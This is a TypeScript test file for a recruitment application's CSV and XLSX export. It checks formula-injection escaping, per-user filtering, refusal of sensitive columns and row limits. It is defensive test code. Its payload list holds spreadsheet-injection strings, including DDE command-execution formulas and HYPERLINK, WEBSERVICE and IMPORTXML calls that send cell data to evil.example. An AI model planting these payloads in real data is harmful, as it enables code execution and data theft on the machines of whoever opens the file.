import { eq } from 'drizzle-orm'
import { beforeAll, describe, expect, test } from 'vitest'
import { applicants, applications } from '../../server/tables/applications.ts'
import { outbox } from '../../server/tables/outbox.ts'
import { referenceItems } from '../../server/tables/reference.ts'
import type { Cell } from '../../server/workbooks/readWorkbook.ts'
import { workbookOf } from '../../server/workbooks/writeWorkbook.ts'
import { testApp } from '../app.ts'
import { must } from '../applications/candidates.ts'
import { posted } from '../files/posted.ts'
import { unzipped } from '../fixtures/zip.ts'
import { download, imported, rowsOf } from './sheets.ts'

const t = await testApp()

/** What people have put into fields to have a colleague's spreadsheet run it. */
const payloads = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML("https://evil.example","//a")',
  "+cmd|'/c calc'!A0",
  '+61 400 000 000',
  "-cmd|'/c calc'!A0",
  '-2+3',
  '@SUM(1+1)*A1',
  "@cmd|'/c calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '=1+1","=2+2',
  '=1+1;=2+2',
  "'=1+1",
  '"=1+1',
]
const inFront = ['\t=1+1', '\r=1+1', '\n=1+1', '\u00a0=1+1']
/** No cell of a spreadsheet may begin like this. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: NUL is one of what may stand in front
const ACTIVE = /^[\s\u0000]*[=+\-@＝＋－＠]/

/** Fields of a CSV, by the rules a spreadsheet goes by. */
const fieldsOf = (csv: string) =>
  [...csv.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n)/g)].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '')

describe('texts that begin like formulas', () => {
  test('are inert in CSV and XLSX, and come back as they were', async () => {
    await t.db.insert(referenceItems).values(payloads.map((name) => ({ list: 'skill' as const, name })))
    const csv = (await download(t, '/ref/job_skill/export', { format: 'csv' })).bytes.toString('utf8')
    const fields = fieldsOf(csv)
    expect(fields.filter((field) => ACTIVE.test(field))).toEqual([])
    for (const payload of payloads) expect(fields).toContain(ACTIVE.test(payload) || payload.startsWith("'") ? `'${payload}` : payload)

    const { bytes } = await download(t, '/ref/job_skill/export', { format: 'xlsx' })
    const parts = unzipped(bytes)
    expect(Object.entries(parts).filter(([name, xml]) => /sheet\d*\.xml$/.test(name) && /<f[\s>/]/.test(xml))).toEqual([])
    const texts = [...Object.entries(parts).flatMap(([, xml]) => [...xml.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map(([, text]) => text ?? ''))]
    expect(texts.length).toBeGreaterThan(payloads.length)
    expect(texts.filter((text) => ACTIVE.test(text))).toEqual([])

    // Read again, the names are the names; spaces around them go, as they do in the form.
    const known = new Set(payloads.map((one) => one.trim()))
    const exported = [...new Set((await rowsOf(bytes)).map(([name]) => String(name)))].filter((name) => known.has(name))
    expect(exported.length).toBe(known.size)
    expect(
      await imported(
        t,
        'computer-skill',
        ['Name'],
        exported.map((name): Cell[] => [name]),
      ),
    ).toMatchObject({ state: 'done', rows: known.size })
    expect((await t.db.select().from(referenceItems).where(eq(referenceItems.list, 'computerSkill'))).map(({ name }) => name)).toEqual(
      expect.arrayContaining([...known]),
    )
  })

  test('are inert in every list, headings included', async () => {
    const { requisitionId } = await posted(t)
    const texts = [...payloads, ...inFront]
    for (const [at, text] of texts.entries()) {
      const [person] = await t.db
        .insert(applicants)
        .values({ firstName: text, surName: text, email: `p${at}@sample.example`, mobile: text })
        .returning()
      await t.db.insert(applications).values({ applicantId: person!.id, requisitionId, source: 'MANUAL', status: 'new application' })
      await t.db
        .insert(outbox)
        .values({ event: 'X', toEmail: 'a@sample.example', toName: text, subject: text, html: '', body: '', dedupe: `x${at}`, messageId: `x${at}` })
    }
    const asked = (column: string) => ({ criteria: {}, show: [{ column, heading: '=1+1', words: [{ value: 'draft', label: '=2+2' }] }] })
    for (const [path, column] of [
      ['/application/export', 'applicantName'],
      [`/applicant/export/${requisitionId}`, 'applicantCell'],
      ['/outbox/export', 'subject'],
    ] as const) {
      const csv = (await download(t, path, { format: 'csv', ...asked(column) })).bytes.toString('utf8')
      expect(fieldsOf(csv).length).toBeGreaterThan(texts.length)
      expect(fieldsOf(csv).filter((field) => ACTIVE.test(field))).toEqual([])
      const { bytes } = await download(t, path, { format: 'xlsx', ...asked(column) })
      const cells = Object.values(unzipped(bytes)).flatMap((xml) => [...xml.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map(([, text]) => text ?? ''))
      expect(cells.filter((text) => ACTIVE.test(text))).toEqual([])
    }
  })
})

test('texts that are names on every object are exported as cells and headings, and read back', async () => {
  const names = Object.getOwnPropertyNames(Object.prototype)
  await t.db.insert(referenceItems).values(names.map((name) => ({ list: 'skill' as const, name })))
  const { bytes } = await download(t, '/ref/job_skill/export', { format: 'xlsx' })
  expect((await rowsOf(bytes)).map(([name]) => name)).toEqual(expect.arrayContaining(names))
  // Other programs read the file as well, so a text is there as it is, with nothing beside it.
  for (const name of names) expect(unzipped(bytes)['xl/sharedStrings.xml']).toContain(`<t>${name}</t>`)
  expect(await rowsOf(await workbookOf([{ name: 'Names', headings: names, rows: [names] }]))).toEqual([names, names])
})

describe('a list as a file', () => {
  const show = [
    { column: 'id', heading: 'No.' },
    { column: 'status', heading: 'State', words: [{ value: 'DR', label: 'Draft' }] },
    { column: 'positionTitle', heading: 'Position' },
  ]
  const criteria = { sort: 'id', columns: ['status'], operators: ['SEL_EQUAL'], values: ['DR'] }

  test('holds what the list holds: filter, order, columns, in the words of the screen', async () => {
    const { data } = await (await t.as('manager')).recruitment.POST('/requisitions/criteria', { body: { ...criteria, operators: ['SEL_EQUAL'], size: 100 } })
    const { bytes, headers } = await download(t, '/requisitions/export', { format: 'xlsx', criteria, show })
    expect(headers.get('content-disposition')).toContain('Requisitions.xlsx')
    expect(await rowsOf(bytes)).toEqual([['No.', 'State', 'Position'], ...data!.responseDataList.map(({ id, positionTitle }) => [id, 'Draft', positionTitle])])
  })

  test('holds nothing that the list would not show this person', async () => {
    const employee = await t.as('employee')
    const mine = await employee.recruitment.POST('/requisitions/criteria', { body: { size: 100 } })
    const { bytes } = await download(t, '/requisitions/export', { format: 'xlsx', criteria: {}, show }, 'employee@threshold.test')
    expect((await rowsOf(bytes)).length - 1).toBe(mine.data!.paging.totalElements)
    expect((await download(t, '/application/export', { format: 'csv', criteria: {}, show: [show[0]] }, 'employee@threshold.test')).status).toBe(403)
  })

  test.each([
    ['/employee/export', 'gender'],
    ['/employee/export', 'birthDate'],
    ['/employee/export', 'disability'],
    ['/employee/export', 'bankAccountNumber'],
    ['/employee/export', 'taxFileNumber'],
    ['/employee/export', 'constructor'],
    ['/application/export', '__proto__'],
    ['/requisitions/export', 'version'],
    ['/outbox/export', 'html'],
  ])('%s gives no column %s', async (path, column) => {
    const { status, bytes } = await download(t, path, { format: 'csv', criteria: {}, show: [{ column, heading: 'x' }] })
    expect([status, (JSON.parse(bytes.toString()) as { code: string }).code]).toEqual([400, 'BAD_INPUT'])
  })
})

describe('of more rows than a list counts', () => {
  beforeAll(async () => {
    const message = (n: number) => ({
      event: 'X',
      toEmail: 'a@sample.example',
      toName: 'A',
      subject: `Many ${n}`,
      html: '',
      body: '',
      dedupe: `many${n}`,
      messageId: `many${n}`,
    })
    for (const begin of [0, 5000]) await t.db.insert(outbox).values(Array.from({ length: begin === 0 ? 5000 : 5001 }, (_, n) => message(begin + n)))
  })

  test('it says so, until all are asked for', async () => {
    const { recruitment } = await t.as('manager')
    const counted = async (countAll: boolean) => must(await recruitment.POST('/outbox/criteria', { body: { search: 'Many', countAll } })).paging
    expect(await counted(false)).toMatchObject({ totalElements: 1000, more: true })
    expect(await counted(true)).toEqual({ page: 1, size: 25, totalElements: 10_001, totalPages: 401 })
  })

  test('a workbook is refused in words; CSV takes them', async () => {
    const asked = { format: 'csv', show: [{ column: 'subject', heading: 'Subject' }] }
    const refused = await download(t, '/outbox/export', { ...asked, format: 'xlsx', criteria: {} })
    expect([refused.status, (JSON.parse(refused.bytes.toString()) as { code: string }).code]).toEqual([400, 'EXPORT_TOO_LONG'])
    const all = (
      await download(t, '/outbox/export', { ...asked, criteria: { sort: 'id', columns: ['subject'], operators: ['STR_CONTAIN'], values: ['Many '] } })
    ).bytes
      .toString('utf8')
      .trim()
      .split('\r\n')
    expect([all.length, new Set(all).size]).toEqual([10_002, 10_002])
    const { bytes } = await download(t, '/outbox/export', { ...asked, criteria: { search: 'Many 1', sort: 'id' } })
    const lines = bytes.toString('utf8').trim().split('\r\n')
    expect([lines.length, new Set(lines).size]).toEqual([1113, 1113])
  })
})
